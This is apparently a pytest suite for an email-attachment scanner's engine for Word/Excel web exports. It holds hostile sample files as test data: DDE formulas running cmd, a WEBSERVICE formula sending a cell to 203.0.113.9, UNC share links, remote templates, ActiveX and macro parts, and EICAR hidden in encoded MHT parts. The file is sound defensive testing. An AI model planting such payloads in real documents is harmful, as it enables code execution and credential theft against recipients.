"""Web-export engine: "Export to Word/Excel" files (an HTML page or MHT archive named .doc or
.xls, an Excel 2003 XML workbook named .xls), approved when honest and rejected with the code an
.docx/.xlsx holding the same thing gets. Built here, as the exporters write them (jQuery
wordexport's MHT, SheetJS's HTML table and SpreadsheetML); scanned through the whole scanner
(every engine but ClamAV in-process; a real clamd in the integration test).
"""

from __future__ import annotations

import base64
import io
import quopri
from collections.abc import Iterator

import pytest
from pypdf import PdfWriter

from attachguard.clamav.client import ClamdClient
from attachguard.clamav.signatures import EICAR
from attachguard.engines import webexport
from attachguard.engines.base import Item
from attachguard.engines.filetype import ACCEPTED, OFFICE_PAGES
from attachguard.pipeline import Scanner
from attachguard.policy import Policy
from attachguard.report import FileType, Report, Status
from attachguard.scanner import build_scanner

WORD_NS = (
    "xmlns:o='urn:schemas-microsoft-com:office:office' "
    "xmlns:w='urn:schemas-microsoft-com:office:word' "
    "xmlns:v='urn:schemas-microsoft-com:vml' xmlns='http://www.w3.org/TR/REC-html40'"
)
EXCEL_NS = (
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:x="urn:schemas-microsoft-com:office:excel" xmlns="http://www.w3.org/TR/REC-html40"'
)
TICKET = (
    "<h1>Case 8812</h1><p>Customer: Jane Doe</p><table border='1'><tr><th>Item</th>"
    "<th>Total</th></tr><tr><td>Widget</td><td>19.98</td></tr></table>"
    "<p><a href='https://support.example.com/t/8812'>Open ticket</a></p>"
)
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


def word_html(body: str = TICKET, head: str = "") -> bytes:
    """An HTML page as web applications write one for Word ("Export HTML to Word")."""
    return (
        f"\ufeff<html {WORD_NS}><head><meta charset='utf-8'><title>Export</title>"
        "<!--[if gte mso 9]><xml><w:WordDocument><w:View>Print</w:View></w:WordDocument>"
        f"</xml><![endif]--><style>body{{font-family:Calibri}}</style>{head}</head>"
        f"<body>{body}</body></html>"
    ).encode()


def word_mht(body: str = TICKET, parts: tuple[tuple[str, str, bytes], ...] = ()) -> bytes:
    """An MHT web archive as jQuery wordexport writes one: the page, then its pictures."""
    boundary = "NEXT.ITEM-BOUNDARY"
    page = f"<!DOCTYPE html><html><head><meta charset='utf-8'></head><body>{body}"
    page += "<img src='file:///C:/fake/image1.png' width='120' height='75'></body></html>"
    out = [
        "MIME-Version: 1.0",
        f'Content-Type: multipart/related; boundary="{boundary}";type="text/html"',
        "",
        f"--{boundary}",
        'Content-Type: text/html; charset="utf-8"',
        "Content-Location: file:///C:/fake/document.html",
        "",
        page,
        "",
    ]
    pictures = (("file:///C:/fake/image1.png", "image/png", PNG), *parts)
    for location, kind, data in pictures:
        out += [f"--{boundary}", f"Content-Location: {location}", f"Content-Type: {kind}"]
        out += ["Content-Transfer-Encoding: base64", "", base64.b64encode(data).decode(), ""]
    out.append(f"--{boundary}--")
    return "\r\n".join(out).encode()


def excel_html(rows: str = "", head: str = "") -> bytes:
    """An HTML table as "Download as Excel" writes one (Excel's namespaces, a sheet name)."""
    rows = rows or "<tr><td>ORD-1</td><td>19.98</td><td x:fmla='=SUM(B1:B1)'>19.98</td></tr>"
    return (
        f"<html {EXCEL_NS}><head><meta charset='UTF-8'><!--[if gte mso 9]><xml>"
        "<x:ExcelWorkbook><x:ExcelWorksheets><x:ExcelWorksheet><x:Name>Sheet1</x:Name>"
        "<x:WorksheetOptions><x:DisplayGridlines/></x:WorksheetOptions></x:ExcelWorksheet>"
        f"</x:ExcelWorksheets></x:ExcelWorkbook>{head}</xml><![endif]--></head><body><table>"
        f"<tr><td>Order</td><td>Total</td><td>Sum</td></tr>{rows}</table></body></html>"
    ).encode()


def sheetjs_html(cell: str = "19.98") -> bytes:
    """SheetJS's ``sheet_to_html`` output: no Office namespace at all."""
    return (
        "<html><head><meta charset='utf-8'/><title>SheetJS Table Export</title></head><body>"
        "<table><tr><td data-t='s' data-v='Order' id='sjs-A1'>Order</td>"
        f"<td data-t='n' id='sjs-B1'>{cell}</td></tr></table></body></html>"
    ).encode()


def spreadsheetml(cells: str = "", names: str = "", extra: str = "", prolog: str = "") -> bytes:
    """An Excel 2003 XML workbook (SpreadsheetML) as SheetJS's ``xlml`` writer makes one."""
    cells = cells or (
        '<Cell ss:HRef="https://shop.example.com/orders/1001"><Data ss:Type="String">ORD-1'
        '</Data></Cell><Cell><Data ss:Type="Number">2</Data></Cell>'
        '<Cell ss:Formula="=RC[-1]*2"><Data ss:Type="Number"></Data></Cell>'
        '<Cell ss:Formula="=Summary!R1C1"><Data ss:Type="Number"></Data></Cell>'
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        f'{prolog}<?mso-application progid="Excel.Sheet"?>'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:x="urn:schemas-microsoft-com:office:excel" '
        'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet" '
        'xmlns:html="http://www.w3.org/TR/REC-html40">'
        "<DocumentProperties xmlns='urn:schemas-microsoft-com:office:office'><Title>Orders"
        f"</Title></DocumentProperties><Names>{names}</Names>"
        f'<Worksheet ss:Name="Orders"><Table><Row>{cells}</Row></Table>{extra}</Worksheet>'
        '<Worksheet ss:Name="Summary"><Table><Row><Cell><Data ss:Type="String">Total</Data>'
        "</Cell></Row></Table></Worksheet></Workbook>"
    ).encode()


@pytest.fixture(scope="module")
def scanner(policy: Policy) -> Iterator[Scanner]:
    with build_scanner(policy.model_copy(update={"disabled_engines": ["clamav"]}), None) as s:
        yield s


def codes(report: Report) -> set[str]:
    return {f.code.name for f in report.findings if f.code.default.value == "reject"}


HONEST = [
    ("word_html", "case.doc", word_html()),
    ("word_html_vml_local_picture", "case.doc", word_html(
        "<!--[if gte vml 1]><v:shape><v:imagedata src='case_files/image001.png' o:title=''/>"
        "</v:shape><![endif]-->" + TICKET)),
    ("word_html_form_posting_out", "case.doc", word_html(
        "<form action='https://forms.example.com/post' method='post'><input name='user'>"
        "<input type='password' name='pw'><input type='submit'></form>")),
    ("word_mht", "case.doc", word_mht()),
    ("excel_html", "orders.xls", excel_html()),
    ("excel_html_text_cells", "orders.xls", excel_html(
        "<tr><td>- item 2 missing | see photo!</td><td>+44 20 7946 0958</td>"
        "<td>=== totals ===</td></tr>")),
    ("sheetjs_html", "orders.xls", sheetjs_html()),
    ("spreadsheetml", "orders.xls", spreadsheetml()),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data"), [pytest.param(n, d, id=i) for i, n, d in HONEST])
def test_honest_exports_are_approved(scanner: Scanner, name: str, data: bytes) -> None:
    report = scanner.scan(data, name)
    assert report.status is Status.APPROVED, report.reasons


HOSTILE = [
    ("script", "case.doc", word_html(TICKET + "<script>alert(1)</script>"), "SCRIPT"),
    ("event_handler", "case.doc", word_html("<body onload='x()'>" + TICKET), "SCRIPT"),
    ("javascript_link", "case.doc", word_html("<a href='java&#9;script:x()'>go</a>"), "SCRIPT"),
    ("activex_object", "case.doc", word_html(
        "<object classid='CLSID:8856F961-340A-11D0-A96B-00C04FD705A2' width=1></object>"),
     "OLE_OBJECT"),
    ("ole_object_in_conditional_comment", "case.doc", word_html(
        "<!--[if gte mso 9]><xml><o:OLEObject Type='Embed' ProgID='Package' "
        "ShapeID='_x0000_i1025'></o:OLEObject></xml><![endif]-->" + TICKET), "OLE_OBJECT"),
    ("edit_time_data_link", "case.doc", word_html(
        head="<link rel=Edit-Time-Data href='case_files/editdata.mso'>"), "VBA_MACRO"),
    ("mht_editdata_part", "case.doc", word_mht(parts=(
        ("file:///C:/fake/editdata.mso", "application/x-mso", b"ActiveMime\x00\x00\x01\xf0"),
    )), "VBA_MACRO"),
    ("mht_oledata_part", "case.doc", word_mht(parts=(
        ("file:///C:/fake/oledata.mso", "application/x-mso", b"ActiveMime\x00\x00\x01\xf0"),
    )), "OLE_OBJECT"),
    ("mht_active_mime_as_picture", "case.doc", word_mht(parts=(
        ("file:///C:/fake/image2.png", "image/png", b"ActiveMime\x00\x00\x01\xf0"),
    )), "OLE_OBJECT"),
    ("remote_picture", "case.doc", word_html(
        TICKET + "<img src='http://203.0.113.9/track.png'>"), "EXTERNAL_LINK"),
    ("remote_picture_in_mht", "case.doc", word_mht(
        TICKET + "<img src='https://203.0.113.9/track.png'>"), "EXTERNAL_LINK"),
    ("vml_share", "case.doc", word_html(
        "<!--[if gte vml 1]><v:shape><v:imagedata src='\\\\203.0.113.9\\s\\a.png'/>"
        "</v:shape><![endif]-->" + TICKET), "EXTERNAL_LINK"),
    ("remote_style_sheet", "case.doc", word_html(
        head="<link rel=stylesheet href='https://203.0.113.9/x.css'>"), "EXTERNAL_LINK"),
    ("form_to_a_share", "case.doc", word_html(
        "<form action='\\\\203.0.113.9\\s\\post'><input type='submit'></form>"),
     "EXTERNAL_LINK"),
    ("fmla_dde", "orders.xls", excel_html(
        "<tr><td>1</td><td>2</td><td x:fmla=\"=cmd|' /C calc'!A0\">0</td></tr>"), "DDE"),
    ("typed_dde_cell", "orders.xls", excel_html(
        "<tr><td>1</td><td>=cmd|' /C calc'!A0</td></tr>"), "DDE"),
    ("typed_dde_cell_sheetjs", "orders.xls", sheetjs_html("=1+cmd|' /C calc'!A0"), "DDE"),
    ("hyperlink_share_cell", "orders.xls", excel_html(
        "<tr><td>1</td><td>=HYPERLINK(\"\\\\203.0.113.9\\s\\x\",\"open\")</td></tr>"),
     "EXTERNAL_LINK"),
    ("webservice_fmla", "orders.xls", excel_html(
        "<tr><td>1</td><td x:fmla='=WEBSERVICE(\"https://203.0.113.9/?\"&amp;A1)'>0</td></tr>"),
     "EXTERNAL_LINK"),
    ("defined_name_dde", "orders.xls", excel_html(head=(
        "<x:ExcelName><x:Name>Go</x:Name><x:Formula>=cmd|'/c calc'!A0</x:Formula>"
        "</x:ExcelName>")), "DDE"),
    ("html_xls_script", "orders.xls", sheetjs_html() + b"<script>x()</script>", "SCRIPT"),
    # red team 103: Excel's XML island in a page, as in an Excel 2003 XML workbook
    ("html_conditional_format_dde", "orders.xls", excel_html(head=(
        "<xml><x:ConditionalFormatting><x:Range>B2</x:Range><x:Condition><x:Value1>"
        "cmd|' /c calc'!A0</x:Value1></x:Condition></x:ConditionalFormatting></xml>")), "DDE"),
    ("html_validation_share", "orders.xls", excel_html(head=(
        "<xml><x:DataValidation><x:Range>B2</x:Range><x:Value>"
        "'\\\\203.0.113.9\\s\\[b.xlsx]Sheet1'!$A$1</x:Value></x:DataValidation></xml>")),
     "EXTERNAL_LINK"),
    ("html_web_query", "orders.xls", excel_html(head=(
        "<xml><x:QueryTable><x:QuerySource><x:URLString>https://203.0.113.9/q</x:URLString>"
        "</x:QuerySource></x:QueryTable></xml>")), "EXTERNAL_LINK"),
    ("word_page_remote_template", "case.doc", word_html(head=(
        "<xml><w:WordDocument><w:AttachedTemplate HRef='https://203.0.113.9/t.dotm'>"
        "</w:AttachedTemplate></w:WordDocument></xml>")), "EXTERNAL_LINK"),
    ("word_page_hyperlink_base_share", "case.doc", word_html(head=(
        "<xml><o:DocumentProperties><o:HyperlinkBase>\\\\203.0.113.9\\s\\</o:HyperlinkBase>"
        "</o:DocumentProperties></xml>")), "EXTERNAL_LINK"),
    ("xml_dde", "orders.xls", spreadsheetml(
        "<Cell ss:Formula=\"=cmd|'/c calc'!A0\"><Data ss:Type='Number'/></Cell>"), "DDE"),
    ("xml_dde_escaped", "orders.xls", spreadsheetml(
        "<Cell ss:Formula=\"=cmd&#124;'/c calc'!A0\"><Data ss:Type='Number'/></Cell>"), "DDE"),
    ("xml_webservice", "orders.xls", spreadsheetml(
        "<Cell ss:Formula='=WEBSERVICE(\"https://203.0.113.9/x\")'><Data ss:Type='String'/>"
        "</Cell>"), "EXTERNAL_LINK"),
    ("xml_hyperlink_formula_share", "orders.xls", spreadsheetml(
        "<Cell ss:Formula='=HYPERLINK(\"\\\\203.0.113.9\\s\\x\")'><Data ss:Type='String'/>"
        "</Cell>"), "EXTERNAL_LINK"),
    ("xml_workbook_on_share", "orders.xls", spreadsheetml(
        "<Cell ss:Formula=\"='\\\\203.0.113.9\\s\\[Book.xls]Sheet1'!R1C1\"><Data "
        "ss:Type='Number'/></Cell>"), "EXTERNAL_LINK"),
    ("xml_href_share", "orders.xls", spreadsheetml(
        "<Cell ss:HRef='\\\\203.0.113.9\\s\\x.xls'><Data ss:Type='String'>x</Data></Cell>"),
     "EXTERNAL_LINK"),
    ("xml_named_range_dde", "orders.xls", spreadsheetml(
        names="<NamedRange ss:Name='X' ss:RefersTo=\"=cmd|'/c calc'!A0\"/>"), "DDE"),
    ("xml_auto_open", "orders.xls", spreadsheetml(
        names="<NamedRange ss:Name='Auto_Open' ss:RefersTo='=Summary!R1C1'/>"), "XLM_MACRO"),
    ("xml_macro_sheet", "orders.xls", spreadsheetml(extra=(
        "<WorksheetOptions xmlns='urn:schemas-microsoft-com:office:excel'><Excel4MacroSheet/>"
        "</WorksheetOptions>")), "XLM_MACRO"),
    ("xml_web_query", "orders.xls", spreadsheetml(extra=(
        "<QueryTable xmlns='urn:schemas-microsoft-com:office:excel'><QuerySource><QueryType>"
        "Web</QueryType><URLString>https://203.0.113.9/q</URLString></QuerySource>"
        "</QueryTable>")), "EXTERNAL_LINK"),
    ("xml_conditional_format_webservice", "orders.xls", spreadsheetml(extra=(
        "<ConditionalFormatting xmlns='urn:schemas-microsoft-com:office:excel'><Range>C1"
        "</Range><Condition><Value1>WEBSERVICE(&quot;https://203.0.113.9/&quot;)</Value1>"
        "</Condition></ConditionalFormatting>")), "EXTERNAL_LINK"),
    ("xml_broken", "orders.xls", spreadsheetml()[:-40], "CORRUPT"),
    ("xml_not_a_workbook", "orders.xls", b'<?xml version="1.0"?><orders><o id="1"/></orders>',
     "TYPE_MISMATCH"),
    ("xml_under_doc", "case.doc", spreadsheetml(), "TYPE_MISMATCH"),
    ("html_under_txt", "note.txt", word_html(), "SCRIPT"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "data", "code"), [pytest.param(n, d, c, id=i) for i, n, d, c in HOSTILE]
)
def test_hostile_exports_are_rejected_with_their_code(
    scanner: Scanner, name: str, data: bytes, code: str
) -> None:
    report = scanner.scan(data, name)
    assert report.status is Status.REJECTED
    assert code in codes(report), report.reasons


def test_other_engines_still_read_the_export(scanner: Scanner) -> None:
    # routed with the text engines, not instead of them: a card number in an exported table
    report = scanner.scan(sheetjs_html("4111 1111 1111 1111"), "orders.xls")
    assert codes(report) == {"SENSITIVE_CARD"}, report.reasons


def test_a_web_archive_is_read_as_one_whatever_magika_calls_it() -> None:
    data = word_mht(parts=(("file:///C:/f/editdata.mso", "application/x-mso", b"ActiveMime"),))
    assert [c.name for c, _ in webexport.read_page(data, sheet=False)] == ["VBA_MACRO"]
    assert webexport.read_page(word_html(), sheet=False) == []


def test_a_dtd_in_an_xml_workbook_is_ambiguous() -> None:
    # the file-type engine does not take a DOCTYPE before the root for a workbook: the engine
    # itself says why, should an XML workbook reach it with one
    data = spreadsheetml(prolog='<!DOCTYPE Workbook [<!ENTITY e "x">]>')
    assert [code.name for code, _ in webexport.read_workbook(data)] == ["AMBIGUOUS"]


def test_a_formula_is_judged_as_the_xlsx_reading_judges_it() -> None:
    assert webexport.judge_formula("=SUM(A1:A3)") == []
    assert webexport.judge_formula("=Orders!R[3]C[4]*RC[-1]") == []
    assert [c.name for c, _ in webexport.judge_formula("=1+cmd|'/c calc'!A0")] == ["DDE"]
    assert [c.name for c, _ in webexport.judge_formula("=a|b", stored=False)] == []


def test_the_engine_reads_what_the_filetype_engine_accepts() -> None:
    for ext, label in webexport.READINGS:
        assert label in ACCEPTED[ext]
        assert label in OFFICE_PAGES.get(ext, frozenset()) or label == "xml"


def test_example_files_through_engines_keep_their_messages(scanner: Scanner) -> None:
    report = scanner.scan(word_html(TICKET + "<script>x()</script>"), "case.doc")
    (found,) = [f for f in report.findings if f.code.name == "SCRIPT"]
    assert found.engine == "webexport" and "web page named .doc" in found.message


@pytest.mark.integration  # a real clamd: the whole scanner as shipped
def test_honest_exports_through_the_whole_scanner(
    policy: Policy, clamd_client: ClamdClient
) -> None:
    with build_scanner(policy, clamd_client) as whole:
        for _, name, data in HONEST:
            report = whole.scan(data, name)
            assert report.status is Status.APPROVED, (name, report.reasons)
        report = whole.scan(word_mht(parts=(("editdata.mso", "application/x-mso", b"x"),)), "a.doc")
        assert "VBA_MACRO" in codes(report)


# -- red team 90: an Excel XML workbook under another name --------------------------------------

DDE_CELL = '<Cell ss:Formula="=cmd|\' /C calc.exe\'!A0"><Data ss:Type="Number"></Data></Cell>'


def test_an_xml_workbook_named_csv_is_a_mismatch_and_read_as_a_workbook(scanner: Scanner) -> None:
    # Excel opens a .csv that starts like XML as XML, after its warning
    report = scanner.scan(spreadsheetml(DDE_CELL), "orders.csv")
    assert {"TYPE_MISMATCH", "DDE"} <= codes(report), report.reasons
    honest = scanner.scan(b"id,note\r\n1,<b>bold</b> in a cell\r\n", "orders.csv")
    assert honest.status is Status.APPROVED, honest.reasons


def test_an_xml_workbook_attached_to_a_pdf_is_read_as_one(scanner: Scanner) -> None:
    # Windows opens a .xml by the program its mso-application instruction names: Excel
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("invoice.xml", spreadsheetml(DDE_CELL))
    out = io.BytesIO()
    writer.write(out)
    assert "DDE" in codes(scanner.scan(out.getvalue(), "invoice.pdf"))
    einvoice = PdfWriter()
    einvoice.add_blank_page(200, 200)
    einvoice.add_attachment("factur-x.xml", b'<?xml version="1.0"?><rsm:CrossIndustryInvoice/>')
    out = io.BytesIO()
    einvoice.write(out)
    assert codes(scanner.scan(out.getvalue(), "invoice.pdf")) == set()


@pytest.mark.parametrize("comment", [1_000, 17_000, 70_000])
def test_an_xml_workbook_behind_a_long_comment_is_still_one(scanner: Scanner, comment: int) -> None:
    """Review 92: a comment before the root made Magika call the workbook text, and one past
    16 KB hid the root from the structure test; Excel reads the prolog whole."""
    data = spreadsheetml(DDE_CELL, prolog="<!--" + "x" * comment + "-->")
    assert {"TYPE_MISMATCH", "DDE"} <= codes(scanner.scan(data, "orders.csv"))
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("invoice.xml", data)
    out = io.BytesIO()
    writer.write(out)
    assert "DDE" in codes(scanner.scan(out.getvalue(), "invoice.pdf"))


def test_xml_named_csv_is_a_mismatch_whatever_it_is_called(scanner: Scanner) -> None:
    data = b'<?xml version="1.0"?><!-- notes -->\r\n<list><item>1</item></list>\r\n'
    assert "TYPE_MISMATCH" in codes(scanner.scan(data, "orders.csv"))
    # xlsx2csv --hyperlinks writes links as HTML in the cells: a CSV all the same
    cells = b"<a href='https://shop.example/'>shop</a>,<a href='https://x.example/'>x</a>\n"
    assert scanner.scan(cells * 3, "links.csv").status is Status.APPROVED


# -- red team 115: a web archive's encoded parts, decoded as Word decodes them ---------------------


def quoted_printable_mht(part: bytes) -> bytes:
    """``word_mht`` with one more part in quoted-printable, soft line breaks every 20 bytes (a
    signature in it is cut by them in the file as stored)."""
    encoded = "=\r\n".join(
        quopri.encodestring(part).decode()[i : i + 20]
        for i in range(0, len(quopri.encodestring(part)), 20)
    )
    page = word_mht().decode()
    extra = (
        "--NEXT.ITEM-BOUNDARY\r\nContent-Location: file:///C:/fake/header.htm\r\n"
        "Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        f"{encoded}\r\n"
    )
    return page.replace("--NEXT.ITEM-BOUNDARY--", extra + "--NEXT.ITEM-BOUNDARY--").encode()


def test_a_web_archives_encoded_parts_are_handed_on_decoded(policy: Policy) -> None:
    data = quoted_printable_mht(b"<p>Dear customer, your parcel left today.</p>" * 3)
    item = Item("case.doc", data, FileType("mht", "message/rfc822", "code", score=0.99))
    result = webexport.WebExportEngine().scan(item, policy.context())
    assert [(c.where, c.imported) for c in result.children] == [
        ("file:///C:/fake/image1.png", True),  # base64
        ("file:///C:/fake/header.htm", True),  # quoted-printable
    ]
    assert result.children[0].data == PNG
    assert result.children[1].data == b"<p>Dear customer, your parcel left today.</p>" * 3
    assert (
        webexport.WebExportEngine()
        .scan(  # a plain page has no parts
            Item("case.doc", word_html(), FileType("html", "text/html", "code", score=0.99)),
            policy.context(),
        )
        .children
        == []
    )


@pytest.mark.integration  # a real clamd
@pytest.mark.parametrize("encoding", ["base64", "quoted-printable"])
def test_eicar_in_an_encoded_part_of_a_web_archive_is_found(
    policy: Policy, clamd_client: ClamdClient, encoding: str
) -> None:
    # clamd decodes a web archive's parts as it does a mail's, but not behind a byte order
    # mark, which Word reads past (red team 115): the parts are handed on decoded
    if encoding == "base64":
        data = word_mht(parts=(("file:///C:/fake/notes.txt", "text/plain", EICAR),))
        where = "file:///C:/fake/notes.txt"
    else:
        data = quoted_printable_mht(b"<p>" + EICAR + b"</p>")
        where = "file:///C:/fake/header.htm"
    assert clamd_client.instream(data).signature is not None  # clamd decodes this one
    data = b"\xef\xbb\xbf" + data
    assert clamd_client.instream(data).signature is None  # and not this one
    with build_scanner(policy, clamd_client) as whole:
        report = whole.scan(data, "case.doc")
    assert report.status is Status.REJECTED
    assert f"EICAR test signature inside {where}" in report.reasons, report.reasons


@pytest.mark.parametrize("before", [b"\xef\xbb\xbf", b"\r\n", b"\xef\xbb\xbf\r\n"])
def test_a_web_archive_behind_a_byte_order_mark_or_blank_lines_is_read_as_one(
    scanner: Scanner, before: bytes
) -> None:
    # Python's mail parser took either for the end of the headers: the archive read as one
    # page, none of its parts (a macro part) seen
    data = word_mht(parts=(("file:///C:/f/editdata.mso", "application/x-mso", b"ActiveMime"),))
    assert [c.name for c, _ in webexport.read_page(before + data, sheet=False)] == ["VBA_MACRO"]
    assert "VBA_MACRO" in codes(scanner.scan(before + data, "case.doc"))


def with_encoding_header(data: bytes, header: bytes) -> bytes:
    """``word_mht`` output with the last part's transfer-encoding header written as ``header``."""
    at = data.rindex(b"Content-Transfer-Encoding: base64")
    return data[:at] + header + data[at + len(b"Content-Transfer-Encoding: base64") :]


@pytest.mark.parametrize(
    "header",
    [
        b"Content-Transfer-Encoding: base64 ",  # a trailing blank
        b"Content-Transfer-Encoding:\r\n base64",  # folded
        b"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64",  # twice
        b"Content-Transfer-Encoding: BASE64",
    ],
    ids=["trailing-blank", "folded", "twice", "upper-case"],
)
def test_a_part_whose_encoding_header_python_does_not_take_is_decoded(
    policy: Policy, header: bytes
) -> None:
    # review 116: Python's own decoding took these for no encoding, and the base64 text was
    # handed on (and searched for scripts) as it stands
    note = b"<p>Delivery note</p><script>alert(1)</script>"
    data = word_mht(parts=(("file:///C:/fake/note.htm", "text/html", note),))
    data = b"\xef\xbb\xbf" + with_encoding_header(data, header)
    item = Item("case.doc", data, FileType("mht", "message/rfc822", "code", score=0.99))
    result = webexport.WebExportEngine().scan(item, policy.context())
    assert (("file:///C:/fake/note.htm", note) in
            [(child.where, child.data) for child in result.children])  # fmt: skip
    assert "SCRIPT" in [f.code.name for f in result.findings]


def test_a_web_archive_of_more_parts_than_read_is_a_limit() -> None:
    parts = tuple((f"file:///C:/fake/p{n}.png", "image/png", PNG) for n in range(1000))
    judged = webexport.read_page(word_mht(parts=parts), sheet=False, mime=True)
    assert [(code.name, why) for code, why in judged] == [
        ("ARCHIVE_MEMBERS", "more than 1,000 parts")
    ]
